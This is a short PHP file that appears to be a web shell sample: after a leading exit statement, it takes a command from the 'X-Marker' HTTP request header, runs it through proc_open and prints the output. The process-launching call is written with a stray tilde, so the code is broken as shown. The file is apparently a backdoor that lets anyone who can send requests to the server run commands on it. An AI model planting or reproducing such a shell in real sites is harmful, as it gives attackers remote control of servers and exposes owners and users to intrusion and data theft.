<?php exit; ?>
<?php
$c = getallheaders();
$p = pro~c_open($c['X-Marker'], array(1 => array('pipe', 'w')), $pipes);
echo stream_get_contents($pipes[1]);
